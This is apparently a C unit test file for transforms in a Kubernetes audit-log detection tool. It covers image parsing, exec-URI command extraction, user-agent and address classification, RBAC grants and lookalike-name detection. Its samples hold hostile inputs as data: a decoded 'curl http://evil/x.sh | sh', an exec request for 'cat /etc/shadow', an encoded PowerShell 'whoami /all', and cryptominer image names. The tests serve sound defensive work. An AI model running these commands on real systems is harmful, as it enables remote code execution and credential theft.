// SPDX-License-Identifier: Apache-2.0
// Does each transform make of a value what its line of documentation says, and nothing of values it cannot read?
#include "event/event.h"
#include "event/names.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

// What the transform makes of one value, joined by '|'.
static struct str made(struct arena *a, const char *transform, struct str in, const struct names *names)
{
    struct field f = {.transform = transform_find(str_from_c(transform)), .names = names};
    struct transform_out out = {.arena = a};
    assert_non_null(f.transform);
    field_derive(&f, in, &out);
    struct str text = STR("");
    for (size_t i = 0; i < out.n; i++)
        text = arena_printf(a, "%.*s%s%.*s", STR_ARG(text), i ? "|" : "", STR_ARG(out.items[i]));
    return text;
}

struct sample {
    const char *transform, *in, *want;
};

static void check(const struct sample *samples, size_t n, const struct names *names)
{
    struct arena a;
    arena_init(&a, ARENA_UNLIMITED);
    for (size_t i = 0; i < n; i++) {
        struct str got = made(&a, samples[i].transform, str_from_c(samples[i].in), names);
        if (!str_eq(got, str_from_c(samples[i].want)))
            fail_msg("%s of '%s': got '%.*s', want '%s'", samples[i].transform, samples[i].in, STR_ARG(got), samples[i].want);
    }
    arena_fini(&a);
}
#define CHECK(samples, names) check((samples), sizeof(samples) / sizeof *(samples), (names))

static void images_are_taken_apart(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"image_registry", "nginx", "docker.io"},
        {"image_registry", "evil-gcr.io/a/b", "evil-gcr.io"},
        {"image_repository", "nginx:1", "library/nginx"},
        {"image_name", "nginx:1", "docker.io/library/nginx"},
        {"image_name", "Bad", ""},
        {"image_account", "kannix/monero-miner", "kannix"},
        {"image_account", "nginx", "library"},
        {"image_account", "ghcr.io/owner/x/y", "owner"},
        {"image_account", "registry.local:5000/app", ""},
        {"image_tag", "a/b:v1", "v1"},
        {"image_tag", "a/b", "latest"},
        {"image_tag", "a/b@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", ""},
        {"image_digest", "a/b", ""},
        {"image_basename", "gcr.io/x/y/pause:3.2", "pause"},
    };
    CHECK(samples, NULL);
}

static void requests_are_read(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"uri_path", "/api/v1/pods?limit=500", "/api/v1/pods"},
        {"uri_path", "/api/v1/namespaces/kube%2Dsystem/secrets", "/api/v1/namespaces/kube-system/secrets"},
        {"uri_path", "/a%zz%4", "/a%zz%4"},
        {"uri_query_keys", "/x?limit=5&watch=true&%63ommand=a&&=v", "limit|watch|command"},
        {"uri_dry_run", "/x?dryRun=All&fieldManager=k", "All"},
        {"uri_dry_run", "/x?dryrun=All", ""},
        {"uri_command", "/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=id%3B+ls%20-l&stdin=true", "sh -c id; ls -l"},
        {"uri_command", "/api/v1/namespaces/d/pods/p/exec?%63ommand=id", "id"},
        {"uri_command", "/api/v1/namespaces/d/pods/p/exec?command=a;command=b", "a b"},
        {"uri_command", "/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=id;curl%20x", "sh -c id;curl x"},
        {"uri_command", "/api/v1/namespaces/d/pods/p/attach?container=c&stdin=true", ""},
        {"uri_command", "/api/v1/namespaces/d/pods/p/log?command=id", ""},
        {"uri_command", "/api/v1/namespaces/d/pods/exec", ""},
        {"uri_command", "/api/v1/nodes/worker-1/proxy/run/d/p/c?cmd=cat%20/etc/shadow", "cat /etc/shadow"},
        {"uri_command", "/api/v1/nodes/worker-1/proxy/exec/d/p/c?command=id&command=-u", "id -u"},
        {"uri_command", "/api/v1/nodes/worker-1/proxy/%72un/d/p/c?cmd=id", "id"},
    };
    CHECK(samples, NULL);
}

static void agents_are_named(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"agent_product", "kubectl/v1.20.2 (linux/amd64) kubernetes/faecb19", "kubectl"},
        {"agent_product", "Go-http-client/1.1", "go-http-client"},
        {"agent_product", "gitlab-runner 13.9.0 linux/amd64", "gitlab-runner"},
        {"agent_product", "", ""},
        {"agent_product", "/", ""},
        {"agent_family", "kubectl.exe/v1.29.0", "kubectl"},
        {"agent_family", "python-requests/2.25.1", "python"},
        {"agent_family", "Python-urllib/3.9", "python"},
        {"agent_family", "Go-http-client/2.0", "go"},
        {"agent_family", "Mozilla/5.0 (X11; Linux x86_64)", "browser"},
        {"agent_family", "Mozilla/5.0 zgrab/0.x", "scanner"},
        {"agent_family", "occasional/1", "occasional"},
        {"agent_family", "Helm/3.5.2", "helm"},
    };
    CHECK(samples, NULL);
}

static void addresses_are_placed(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"address_kind", "127.0.0.1", "loopback"},      {"address_kind", "::1", "loopback"},
        {"address_kind", "10.244.1.7", "private"},      {"address_kind", "172.31.255.255", "private"},
        {"address_kind", "172.32.0.0", "public"},       {"address_kind", "192.168.0.1", "private"},
        {"address_kind", "fd00::1", "private"},         {"address_kind", "169.254.169.254", "link_local"},
        {"address_kind", "fe80::1%eth0", "link_local"}, {"address_kind", "100.64.0.1", "cgnat"},
        {"address_kind", "100.128.0.1", "public"},      {"address_kind", "203.0.113.9", "public"},
        {"address_kind", "::ffff:10.0.0.1", "private"}, {"address_kind", "2001:db8::1", "public"},
        {"address_kind", "224.0.0.1", "multicast"},     {"address_kind", "::", "unspecified"},
        {"address_kind", "not an address", ""},         {"address_kind", "999.1.1.1", ""},
        {"address_kind", "10.0.0.1.evil", ""},
    };
    CHECK(samples, NULL);
}

static void grants_are_named(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"authz_binding",
         "RBAC: allowed by ClusterRoleBinding \"cluster-system-anonymous\" of ClusterRole \"cluster-admin\" to User \"system:anonymous\"",
         "ClusterRoleBinding/cluster-system-anonymous"},
        {"authz_binding", "RBAC: allowed by RoleBinding \"devs/shop\" of ClusterRole \"edit\" to Group \"developers\"",
         "RoleBinding/shop/devs"},
        {"authz_role", "RBAC: allowed by RoleBinding \"devs/shop\" of ClusterRole \"edit\" to Group \"developers\"", "ClusterRole/edit"},
        {"authz_role", "RBAC: allowed by RoleBinding \"a/b\" of Role \"system::x\" to User \"u\"", "Role/system::x"},
        {"authz_subject", "RBAC: allowed by RoleBinding \"devs/shop\" of ClusterRole \"edit\" to Group \"developers\"", "Group/developers"},
        {"authz_subject",
         "RBAC: allowed by ClusterRoleBinding \"d\" of ClusterRole \"cluster-admin\" to ServiceAccount "
         "\"kubernetes-dashboard/kube-system\"",
         "ServiceAccount/kube-system/kubernetes-dashboard"},
        {"authz_subject", "RBAC: allowed by ClusterRoleBinding \"d\" of ClusterRole \"x\" to User \"a\\\"b\\\\c/d\"", "User/a\"b\\c/d"},
        {"authz_binding", "EKS Access Policy: allowed by ClusterRoleBinding \"arn:x+p\" of ClusterRole \"arn:p\" to User \"arn:x\"",
         "ClusterRoleBinding/arn:x+p"},
        {"authz_binding", "", ""},
        {"authz_binding", "no relationship found between node 'node-0' and this object", ""},
        {"authz_binding", "RBAC: allowed by ClusterRoleBinding \"x", ""},
        {"authz_binding", "RBAC: allowed by ClusterRoleBinding \"x\\", ""},
        {"sa_namespace", "system:serviceaccount:kube-system:default", "kube-system"},
        {"sa_name", "system:serviceaccount:kube-system:default", "default"},
        {"sa_name", "system:serviceaccount:a:b:c", ""},
        {"sa_name", "system:serviceaccount::b", ""},
        {"sa_name", "system:serviceaccounts", ""},
    };
    CHECK(samples, NULL);
}

static void certificate_requests_are_opened(void **state)
{
    (void)state;
    // openssl req -new -newkey ed25519 -nodes -subj "/O=system:masters/CN=kubernetes-admin2" | base64 -w0
    static const struct sample samples[] = {
        {"csr_subject",
         "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlHME1HZ0NBUUF3TlRFWE1CVUdBMVVFQ2d3T2MzbHpkR1Z0T20xaGMzUmxjbk14R2pBWUJnTlZC"
         "QU1NRVd0MQpZbVZ5Ym1WMFpYTXRZV1J0YVc0eU1Db3dCUVlESzJWd0F5RUFLY0ozMGRuZmJmbCtOaHV1Uk1HTVlWWS9acjZ0ClAweE82cVlyVTJoNjcyT2dBREFG"
         "QmdNclpYQURRUUJycEtFS2pPZmwyUzREaFJCRjBmLzFyT0c2ZXl1M1J6bm4KZWQzQ2FXSWlJa3hCSGxCNkhMTDRaSjgwTFZocHBxM25zWUwrRzZnMlM2enpZcFpY"
         "eW9nSAotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K",
         "CN=kubernetes-admin2|O=system:masters"},
        {"csr_subject", "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlHME1HZ0NBUUF3TlRFWE1CVUdBMVVF", ""},
        {"csr_subject", "no base64 at all!", ""},
    };
    CHECK(samples, NULL);
}

static void texts_are_opened(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"first_label", "web.shop.svc.cluster.local", "web"},
        {"first_label", "web", "web"},
        {"first_word", "  /bin/sh -c id", "/bin/sh"},
        {"basename", "/usr/local/bin/xmrig -o pool", "xmrig"},
        {"basename", "/usr/bin/", ""},
        {"length", "", "0"},
        {"length", "abc", "3"},
        {"base64_text", "echo Y3VybCBodHRwOi8vZXZpbC94LnNoIHwgc2g= | base64 -d | sh", "curl http://evil/x.sh | sh"},
        {"base64_text", "powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==", "whoami /all"},
        {"base64_text", "echo AAECAwQFBgcICQoLDA0ODw== | base64 -d", ""},
        {"base64_text", "short QUJD", ""},
        {"skeleton", "Kube-Pr0xy", "kubeproxy"},
        {"skeleton", "vvorker_m0rnln9", "workermomln9"},
        {"skeleton", "\xd0\xbaub\xd0\xb5\xef\xbd\x81pi", "kubeapi"},
        {"skeleton", "\xff\xfe", "\xff\xfe"},
    };
    CHECK(samples, NULL);
}

static struct names *components(struct arena *a)
{
    static const struct str like[] = {{"kube-apiserver", 14},
                                      {"kube-controller-manager", 23},
                                      {"kube-scheduler", 14},
                                      {"kube-proxy", 10},
                                      {"kube-dns", 8},
                                      {"coredns", 7},
                                      {"etcd", 4},
                                      {"kubernetes-dashboard", 20},
                                      {"nvidia-device-plugin-daemonset", 30}};
    static const struct str ordinary[] = {{"kube-dns-autoscaler", 19}, {"kube-rbac-proxy", 15}};
    static const struct str words[] = {{"kube", 4}, {"api", 3}, {"proxy", 5}, {"device", 6}, {"plugin", 6}};
    return names_build(a, &(struct names_source){like, 9, ordinary, 2, words, 5, true});
}

static void lookalikes_are_seen_through(void **state)
{
    (void)state;
    struct arena a;
    arena_init(&a, ARENA_UNLIMITED);
    static const struct sample samples[] = {
        {"lookalike", "kube-control", "kube-controller-manager"},
        {"lookalike", "kube-controller", "kube-controller-manager"},
        {"lookalike", "system:controller:kube-controller", "kube-controller-manager"},
        {"lookalike", "kube-control-6c8778699-xlxl8", "kube-controller-manager"},
        {"lookalike", "kube-system-proxy", "kube-proxy"},
        {"lookalike", "kube-proxy-xyz", "kube-proxy"},
        {"lookalike", "kube-pr0xy", "kube-proxy"},
        {"lookalike", "kubeproxy", "kube-proxy"},
        {"lookalike", "kube-porxy", "kube-proxy"},
        {"lookalike", "kube-aplserver", "kube-apiserver"},
        {"lookalike", "k8s-proxy", "kube-proxy"},
        {"lookalike", "kube-api", "kube-apiserver"},
        {"lookalike", "kube-dns-updater", "kube-dns"},
        {"lookalike", "api-proxy", "kube-proxy"},
        {"lookalike", "proxy-api-b59mp", "kube-proxy"},
        {"lookalike", "k8s-device-plugin", "nvidia-device-plugin-daemonset"},
        {"lookalike", "coredn5", "coredns"},
        {"lookalike", "kube-proxy", ""},
        {"lookalike", "kube-proxy-5psz8", ""},
        {"lookalike", "coredns-59b9f5cbc4-v6vql", ""},
        {"lookalike", "kube-dns-token-mcl4n", ""},
        {"lookalike", "kube-dns-updater-1795311420-vw8g5", "kube-dns"},
        {"lookalike", "kube-dns-autoscaler", ""},
        {"lookalike", "kube-rbac-proxy", ""},
        {"lookalike", "system:kube-scheduler", ""},
        {"lookalike", "frontend-7b8978c486-tspqg", ""},
        {"lookalike", "kube-state-metrics", ""},
        {"lookalike", "etce", ""},
        {"lookalike", "api", ""},
        {"lookalike", "", ""},
        {"lookalike", "-", ""},
        {"lookalike", "::", ""},
    };
    CHECK(samples, components(&a));
    arena_fini(&a);
}

static void lookalike_owners_are_seen_through(void **state)
{
    (void)state;
    struct arena a;
    arena_init(&a, ARENA_UNLIMITED);
    static const struct str like[] = {{"gcr.io", 6}, {"docker.io", 9}, {"quay.io", 7}, {"kubernetesio", 12}, {"library", 7}, {"istio", 5}};
    struct names *names = names_build(&a, &(struct names_source){.like = like, .n_like = 6});
    static const struct sample samples[] = {
        {"image_lookalike", "kuberntesio/kube-controller:1.0.1", "kubernetesio"},
        {"image_lookalike", "kubrnetesio/x", "kubernetesio"},
        {"image_lookalike", "ist1o/proxyv2", "istio"},
        {"image_lookalike", "evil-gcr.io/a/b", "gcr.io"},
        {"image_lookalike", "gcr.io.example.com/a/b", "gcr.io"},
        {"image_lookalike", "grc.io/a/b", "gcr.io"},
        {"image_lookalike", "docker.io/libary/nginx", "library"},
        {"image_lookalike", "us.gcr.io/a/b", ""},
        {"image_lookalike", "gcr.io:443/a/b", ""},
        {"image_lookalike", "nginx", ""},
        {"image_lookalike", "kannix/monero-miner", ""},
        {"image_lookalike", "mygcr.io/a/b", ""},
    };
    CHECK(samples, names);
    arena_fini(&a);
}

static void what_does_not_fit_is_counted(void **state)
{
    (void)state;
    struct arena a;
    char uri[4 * 2 * TRANSFORM_MAX];
    size_t n = (size_t)snprintf(uri, sizeof uri, "/x?");
    for (int i = 0; i < TRANSFORM_MAX + 5; i++)
        n += (size_t)snprintf(uri + n, sizeof uri - n, "a=&");
    arena_init(&a, ARENA_UNLIMITED);
    struct transform_out out = {.arena = &a};
    transform_find(STR("uri_query_keys"))->apply(str_make(uri, n), &out);
    assert_int_equal(out.n, TRANSFORM_MAX);
    assert_int_equal(out.dropped, 5);
    arena_fini(&a);
    arena_init(&a, 1);
    out = (struct transform_out){.arena = &a};
    transform_find(STR("image_name"))->apply(STR("gcr.io/a/b"), &out);
    assert_int_equal(out.n, 0);
    assert_int_equal(out.dropped, 1);
    arena_fini(&a);
}

// docs/fields.md carries the table as it is.
static void the_manual_has_every_transform(void **state)
{
    (void)state;
    static char manual[64 * 1024];
    FILE *file = fopen(FIELDS_MD, "rb");
    assert_non_null(file);
    struct str text = str_make(manual, fread(manual, 1, sizeof manual, file));
    (void)fclose(file);
    struct arena a;
    size_t n;
    const struct transform *all = transform_table(&n);
    arena_init(&a, ARENA_UNLIMITED);
    for (size_t i = 0; i < n; i++) {
        struct str row = arena_printf(&a, "| `%.*s` | %s |\n", STR_ARG(all[i].name), all[i].what);
        if (str_find(text, row, 0) == SIZE_MAX)
            fail_msg("docs/fields.md lacks %.*s", STR_ARG(row));
    }
    arena_fini(&a);
}

static void the_table_is_documented_and_survives_anything(void **state)
{
    (void)state;
    static const struct str hostile[] = {{NULL, 0},
                                         {"", 0},
                                         {"\0\0", 2},
                                         {"?", 1},
                                         {"%", 1},
                                         {"/exec?command=%", 15},
                                         {"::::", 4},
                                         {"\xff\xff\xff", 3},
                                         {"RBAC: allowed by  \"", 19},
                                         {"[:", 2},
                                         {"a@", 2},
                                         {"----", 4}};
    struct arena a;
    size_t n;
    const struct transform *all = transform_table(&n);
    arena_init(&a, ARENA_UNLIMITED);
    struct names *names = components(&a);
    for (size_t i = 0; i < n; i++) {
        assert_ptr_equal(transform_find(all[i].name), &all[i]);
        assert_true(strlen(all[i].what) > 10);
        if (i)
            assert_true(str_cmp(all[i - 1].name, all[i].name) < 0);
        for (size_t k = 0; k < sizeof hostile / sizeof *hostile; k++) {
            struct transform_out out = {.arena = &a};
            field_derive(&(struct field){.transform = &all[i], .names = names}, hostile[k], &out);
            for (size_t j = 0; j < out.n; j++)
                assert_non_null(out.items[j].ptr);
        }
    }
    assert_null(transform_find(STR("no_such")));
    arena_fini(&a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(images_are_taken_apart),
        cmocka_unit_test(requests_are_read),
        cmocka_unit_test(agents_are_named),
        cmocka_unit_test(addresses_are_placed),
        cmocka_unit_test(grants_are_named),
        cmocka_unit_test(certificate_requests_are_opened),
        cmocka_unit_test(texts_are_opened),
        cmocka_unit_test(lookalikes_are_seen_through),
        cmocka_unit_test(lookalike_owners_are_seen_through),
        cmocka_unit_test(what_does_not_fit_is_counted),
        cmocka_unit_test(the_manual_has_every_transform),
        cmocka_unit_test(the_table_is_documented_and_survives_anything),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
